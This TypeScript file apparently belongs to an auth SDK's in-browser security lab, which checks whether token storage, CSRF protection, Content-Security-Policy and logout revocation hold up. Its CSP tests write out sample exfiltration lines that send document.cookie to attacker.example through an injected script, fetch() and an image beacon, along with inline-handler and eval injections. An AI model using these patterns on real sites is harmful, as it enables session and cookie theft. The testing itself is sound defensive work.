/**
 * The security lab's attacks. Each one tries what injected script or a hostile site would try
 * and reports whether the defence held (`pass`) or not (`fail`).
 */
import { api, client } from '../api.js';

export interface CheckResult {
  pass: boolean;
  observed: string;
}
export interface Check {
  id: string;
  group: string;
  title: string;
  expected: string;
  run(): Promise<CheckResult>;
}

/** A JWT (three base64url segments) or a Tokenward refresh token. */
const TOKEN_LIKE = /eyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}|twr_[A-Za-z0-9_-]{16,}/;
const ATTACKER = 'https://attacker.example';

function tokenLike(values: Iterable<string>): string[] {
  return Array.from(values).filter((v) => TOKEN_LIKE.test(v));
}

function storageValues(storage: Storage): string[] {
  const out: string[] = [];
  for (let i = 0; i < storage.length; i++) {
    const key = storage.key(i) ?? '';
    out.push(`${key}=${storage.getItem(key) ?? ''}`);
  }
  return out;
}

function describeKeys(entries: string[], what: string): string {
  return entries.length ? `${entries.length} ${what}, none token-like` : `empty: no ${what}`;
}

async function indexedDbValues(): Promise<{ databases: string[]; values: string[] }> {
  if (!indexedDB.databases) return { databases: [], values: [] };
  const databases = (await indexedDB.databases()).map((d) => d.name ?? '').filter(Boolean);
  const values: string[] = [];
  for (const name of databases) {
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const req = indexedDB.open(name);
      req.onsuccess = () => resolve(req.result);
      req.onerror = () => reject(req.error);
    });
    for (const store of Array.from(db.objectStoreNames)) {
      const all = await new Promise<unknown[]>((resolve, reject) => {
        const req = db.transaction(store, 'readonly').objectStore(store).getAll();
        req.onsuccess = () => resolve(req.result);
        req.onerror = () => reject(req.error);
      });
      for (const v of all) values.push(JSON.stringify(v));
    }
    db.close();
  }
  return { databases, values };
}

/** CSP violations seen since `since`, matching `match`. */
const violations: SecurityPolicyViolationEvent[] = [];
document.addEventListener('securitypolicyviolation', (event) => violations.push(event));
function violationsFor(match: (v: SecurityPolicyViolationEvent) => boolean): SecurityPolicyViolationEvent[] {
  return violations.filter(match);
}
const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Waits until a matching violation arrives (or `ms` pass). */
async function awaitViolation(
  match: (v: SecurityPolicyViolationEvent) => boolean,
  ms = 1500,
): Promise<SecurityPolicyViolationEvent | undefined> {
  const until = Date.now() + ms;
  while (Date.now() < until) {
    const found = violationsFor(match)[0];
    if (found) return found;
    await wait(25);
  }
  return undefined;
}

type Pwned = { __labPwned?: string[] };
const pwned = (): string[] => ((window as unknown as Pwned).__labPwned ??= []);

export const TOKEN_CHECKS: Check[] = [
  {
    id: 'document-cookie',
    group: 'Token theft by injected script',
    title: 'Read the session from document.cookie',
    expected: 'No access, refresh, step-up or device cookie is visible; only the CSRF cookie is.',
    async run() {
      const cookies = document.cookie
        .split(';')
        .map((c) => c.trim())
        .filter(Boolean);
      const names = cookies.map((c) => c.split('=')[0] ?? '');
      const credentials = names.filter((n) => /tw_(at|rt|su|dev|oidc|at_sig)$/.test(n));
      const leaked = tokenLike(cookies);
      const visible = names.length ? `Visible: ${names.join(', ')}.` : 'No cookie is visible.';
      const csrf = names.some((n) => n.endsWith('tw_csrf'))
        ? ' The CSRF cookie is readable by design: the SDK copies it into the X-CSRF-Token header; it is signed, bound to this session and useless without the HttpOnly session cookie.'
        : '';
      const split = names.some((n) => n.endsWith('tw_at_hp'))
        ? " Split-cookie mode: the access token's header.payload half is readable, its signature is HttpOnly, so the half is not a credential."
        : '';
      return {
        pass: credentials.length === 0 && leaked.length === 0,
        observed: `${visible}${csrf}${split}${credentials.length ? ` Exposed: ${credentials.join(', ')}!` : ''}`,
      };
    },
  },
  {
    id: 'local-storage',
    group: 'Token theft by injected script',
    title: 'Look for tokens in localStorage',
    expected: 'Nothing token-like.',
    async run() {
      const values = storageValues(localStorage);
      const leaked = tokenLike(values);
      return {
        pass: leaked.length === 0,
        observed: leaked.length ? `Token-like entries: ${leaked.length}` : describeKeys(values, 'keys'),
      };
    },
  },
  {
    id: 'session-storage',
    group: 'Token theft by injected script',
    title: 'Look for tokens in sessionStorage',
    expected: 'Nothing token-like.',
    async run() {
      const values = storageValues(sessionStorage);
      const leaked = tokenLike(values);
      return {
        pass: leaked.length === 0,
        observed: leaked.length ? `Token-like entries: ${leaked.length}` : describeKeys(values, 'keys'),
      };
    },
  },
  {
    id: 'indexeddb',
    group: 'Token theft by injected script',
    title: 'Look for tokens in IndexedDB',
    expected: 'Nothing token-like.',
    async run() {
      const { databases, values } = await indexedDbValues();
      const leaked = tokenLike(values);
      return {
        pass: leaked.length === 0,
        observed: leaked.length
          ? `Token-like records: ${leaked.length}`
          : databases.length
            ? `${databases.length} databases, ${values.length} records, none token-like`
            : 'no databases',
      };
    },
  },
  {
    id: 'response-bodies',
    group: 'Token theft by injected script',
    title: 'Read tokens from API responses',
    expected: 'GET /auth/me and /auth/sessions carry metadata only.',
    async run() {
      const bodies = await Promise.all(
        ['/auth/me', '/auth/sessions'].map(async (path) => (await client.fetch(path)).text()),
      );
      const leaked = tokenLike(bodies);
      return {
        pass: leaked.length === 0,
        observed: leaked.length
          ? 'A token appeared in a response body!'
          : `${bodies.reduce((n, b) => n + b.length, 0)} bytes of JSON, no token`,
      };
    },
  },
];

export const CSRF_CHECK_GROUP = 'Cross-site request forgery';

/** Three forged variants of "POST /api/notes with your cookies", replayed by the server. */
export async function csrfChecks(): Promise<Array<{ check: Omit<Check, 'run'>; result: CheckResult }>> {
  const r = await api<{
    results: Record<string, { status: number; code: string | null }>;
    control: { status: number };
  }>('/api/lab/csrf-replay', { method: 'POST' });
  const variants: Array<[string, string, string]> = [
    [
      'crossSite',
      'Replay from another site (Origin: attacker.example, Sec-Fetch-Site: cross-site)',
      'Refused: 403 csrf_rejected.',
    ],
    ['forgedOrigin', 'Replay from an old browser without Fetch Metadata, forged Origin', 'Refused: 403 csrf_rejected.'],
    [
      'forgedToken',
      'Replay with neither Origin nor Fetch Metadata and a guessed X-CSRF-Token',
      'Refused: 403 csrf_rejected (signed double submit).',
    ],
  ];
  return variants.map(([key, title, expected]) => {
    const check = { id: `csrf-${key}`, group: CSRF_CHECK_GROUP, title, expected };
    if (!r.ok)
      return { check, result: { pass: false, observed: `The lab route failed: ${r.status} ${r.problem.code}` } };
    const got = r.data.results[key];
    const control = r.data.control.status === 200;
    const refused = got?.status === 403 && got.code === 'csrf_rejected';
    return {
      check,
      result: {
        pass: refused && control,
        observed:
          `POST /api/notes → ${got?.status} ${got?.code ?? ''}`.trim() +
          (control
            ? '; the same cookies do authenticate (GET /api/profile → 200).'
            : '; control failed: the cookies did not authenticate.'),
      },
    };
  });
}

export const CSP_CHECKS: Check[] = [
  {
    id: 'csp-script',
    group: 'Injected script (Content-Security-Policy)',
    title: 'Inject <script src> from another origin to exfiltrate',
    expected: 'Blocked by script-src: the script never loads.',
    async run() {
      let loaded = false;
      const script = document.createElement('script');
      script.src = `${ATTACKER}/steal.js?c=${encodeURIComponent(document.cookie)}`;
      script.onload = () => {
        loaded = true;
      };
      document.head.append(script);
      const v = await awaitViolation(
        (e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective.startsWith('script-src'),
      );
      script.remove();
      return {
        pass: !!v && !loaded,
        observed: v
          ? `securitypolicyviolation: ${v.effectiveDirective} blocked ${v.blockedURI.split('?')[0]}`
          : loaded
            ? 'The script loaded!'
            : 'No violation observed',
      };
    },
  },
  {
    id: 'csp-inline-handler',
    group: 'Injected script (Content-Security-Policy)',
    title: 'Inject markup with an inline event handler (<img onerror>)',
    expected: "Blocked: no 'unsafe-inline', the handler never runs.",
    async run() {
      const box = document.createElement('div');
      box.hidden = true;
      box.innerHTML =
        '<img src="data:image/png;base64,AAAA" onerror="(window.__labPwned=window.__labPwned||[]).push(\'inline\')">';
      document.body.append(box);
      const v = await awaitViolation((e) => e.effectiveDirective.startsWith('script-src') && e.blockedURI === 'inline');
      box.remove();
      const ran = pwned().includes('inline');
      return {
        pass: !ran,
        observed: ran
          ? 'The injected handler ran!'
          : v
            ? `securitypolicyviolation: ${v.effectiveDirective} blocked an inline handler`
            : 'The handler did not run',
      };
    },
  },
  {
    id: 'csp-eval',
    group: 'Injected script (Content-Security-Policy)',
    title: 'Run a string as code with eval()',
    expected: "Blocked: no 'unsafe-eval'.",
    async run() {
      try {
        // Indirect eval (global scope), as injected code would use it; the attack under test.
        // biome-ignore lint/security/noGlobalEval: this is the attack the CSP must stop.
        const indirectEval = globalThis.eval;
        indirectEval('(window.__labPwned=window.__labPwned||[]).push("eval")');
      } catch (error) {
        return { pass: !pwned().includes('eval'), observed: `${(error as Error).name}: eval refused` };
      }
      return { pass: false, observed: 'eval ran!' };
    },
  },
  {
    id: 'csp-fetch',
    group: 'Injected script (Content-Security-Policy)',
    title: 'Send data to another origin with fetch()',
    expected: 'Blocked by connect-src.',
    async run() {
      try {
        await fetch(`${ATTACKER}/collect`, { method: 'POST', body: document.cookie, mode: 'no-cors' });
        return { pass: false, observed: 'The request went out!' };
      } catch (error) {
        const v = await awaitViolation(
          (e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective === 'connect-src',
          500,
        );
        return {
          pass: true,
          observed: v
            ? `securitypolicyviolation: connect-src blocked ${v.blockedURI}`
            : `${(error as Error).name}: request refused`,
        };
      }
    },
  },
  {
    id: 'csp-beacon-image',
    group: 'Injected script (Content-Security-Policy)',
    title: 'Leak data through an image beacon',
    expected: 'Blocked by img-src.',
    async run() {
      let loaded = false;
      const img = new Image();
      img.onload = () => {
        loaded = true;
      };
      img.src = `${ATTACKER}/pixel.gif?c=${encodeURIComponent(document.cookie)}`;
      const v = await awaitViolation((e) => e.blockedURI.startsWith(ATTACKER) && e.effectiveDirective === 'img-src');
      return {
        pass: !!v && !loaded,
        observed: v
          ? `securitypolicyviolation: img-src blocked ${v.blockedURI.split('?')[0]}`
          : loaded
            ? 'The beacon loaded!'
            : 'No violation observed',
      };
    },
  },
];

export const SESSION_END_GROUP = 'After logout (this signs you out)';

/** Steals the cookies, logs out, then replays them and calls a protected route from this page. */
export async function sessionEndChecks(): Promise<Array<{ check: Omit<Check, 'run'>; result: CheckResult }>> {
  const stolenCheck = {
    id: 'stolen-cookie-after-logout',
    group: SESSION_END_GROUP,
    title: 'Replay cookies stolen before logout',
    expected: 'The server refuses them: 401 (the session is revoked, not just forgotten by the browser).',
  };
  const routeCheck = {
    id: 'protected-after-logout',
    group: SESSION_END_GROUP,
    title: 'Call a protected route after logout',
    expected: 'GET /api/profile → 401 and /auth/me says signed out.',
  };
  const steal = await api<{ id: string }>('/api/lab/steal', { method: 'POST' });
  await client.logout();
  // A plain fetch: no SDK refresh-and-retry, exactly what the browser sends now.
  const profile = await fetch('/api/profile', { credentials: 'same-origin' });
  const me = await client.me();
  const replayed = steal.ok
    ? await api<{ status: number; code: string | null; afterMs: number }>('/api/lab/replay-stolen', {
        method: 'POST',
        body: { id: steal.data.id },
      })
    : steal;
  return [
    {
      check: stolenCheck,
      result: replayed.ok
        ? {
            pass: replayed.data.status === 401,
            observed:
              `GET /api/profile with the stolen cookies → ${replayed.data.status} ${replayed.data.code ?? ''}`.trim(),
          }
        : { pass: false, observed: `The lab route failed: ${replayed.status}` },
    },
    {
      check: routeCheck,
      result: {
        pass: profile.status === 401 && me === null,
        observed: `GET /api/profile → ${profile.status}; /auth/me → ${me ? 'still signed in!' : 'signed out'}`,
      },
    },
  ];
}
